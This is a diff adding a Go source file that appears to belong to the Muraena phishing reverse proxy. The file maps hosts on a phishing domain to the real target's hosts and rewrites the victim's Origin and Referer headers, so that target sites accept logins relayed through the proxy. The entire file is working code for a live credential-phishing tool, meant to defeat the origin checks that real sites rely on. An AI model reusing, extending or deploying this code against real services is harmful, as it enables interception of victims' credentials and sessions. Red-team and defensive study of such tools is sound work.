@@ -0,0 +1,117 @@
+package proxy
+
+import (
+	"net/http"
+	"net/url"
+	"strings"
+
+	"github.com/evilsocket/islazy/tui"
+
+	"github.com/muraenateam/muraena/core"
+	"github.com/muraenateam/muraena/log"
+)
+
+// originHeaders are the request headers carrying the origin of the victim page, mapped to the target origins
+// by the request-header mapping stage instead of the generic transformation
+var originHeaders = []string{"Origin", "Referer"}
+
+// targetHost maps a host of the phishing domain to the target one, following the same rules as the proxy routing:
+// the subdomain map, the deep and composed wildcard origins, the wildcard and external origins and finally the target.
+// It returns false if the host is outside of the phishing domain.
+func (r *Replacer) targetHost(host string) (string, bool) {
+	host = strings.ToLower(strings.TrimSuffix(host, "."))
+	if host == r.Phishing {
+		return r.Target, true
+	}
+
+	sub := strings.TrimSuffix(host, "."+r.Phishing)
+	if sub == host || sub == "" {
+		return "", false
+	}
+
+	for _, m := range r.SubdomainMap {
+		if len(m) == 2 && strings.EqualFold(m[0], sub) {
+			return m[1] + "." + r.Target, true
+		}
+	}
+
+	if strings.Contains(sub, r.deepWildcardSeparator()) {
+		if patched := r.patchDeepWildcards(host); patched != host {
+			return patched, true
+		}
+		return "", false
+	}
+
+	mapping := r.GetWildcardMapping()
+	if parts := strings.SplitN(sub, CustomWildcardSeparator, 2); len(parts) == 2 {
+		for domain, wld := range mapping {
+			if wld == parts[1] {
+				return parts[0] + "." + domain, true
+			}
+		}
+		return "", false
+	}
+
+	// The wildcard and external origins are always mapped to a single level of the phishing domain
+	for domain, wld := range mapping {
+		if wld == sub {
+			return domain, true
+		}
+	}
+
+	if r.ExternalOriginPrefix != "" && strings.HasPrefix(sub, r.ExternalOriginPrefix) {
+		for domain, subMapping := range r.GetOrigins() {
+			if subMapping == sub {
+				return domain, true
+			}
+		}
+	}
+
+	return sub + "." + r.Target, true
+}
+
+// targetOrigin maps an URL of the phishing domain, as sent in the Origin and Referer headers, to the target one.
+// The host is mapped as routed by the proxy, while the query values are forward transformed,
+// leaving the URLs outside of the phishing domain untouched.
+func (r *Replacer) targetOrigin(value string, base64 Base64) string {
+	u, err := url.Parse(value)
+	if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
+		return value
+	}
+
+	// The port of the phishing listener is dropped, the target one is carried by the target host, if any
+	host, ok := r.targetHost(u.Hostname())
+	if !ok {
+		return value
+	}
+	u.Host = host
+
+	if u.RawQuery != "" {
+		if query, err := core.ParseQuery(u.RawQuery); err == nil {
+			for key := range query {
+				for i, v := range query[key] {
+					query[key][i] = r.Transform(v, true, base64)
+				}
+			}
+			u.RawQuery = query.Encode()
+		}
+	}
+
+	return u.String()
+}
+
+// mapOriginHeaders is the request-header mapping stage: the Origin and Referer headers are always mapped
+// to the target origins, since the targets usually check them against their own origins before accepting a login
+func mapOriginHeaders(replacer *Replacer, request *http.Request, base64 Base64) {
+	for _, header := range originHeaders {
+		value := request.Header.Get(header)
+		if value == "" {
+			continue
+		}
+
+		if mapped := replacer.targetOrigin(value, base64); mapped != value {
+			request.Header.Set(header, mapped)
+			log.Verbose("Mapped HTTP %s to %s", tui.Bold(tui.Red(header)), tui.Bold(tui.Red(mapped)))
+		}
+	}
+}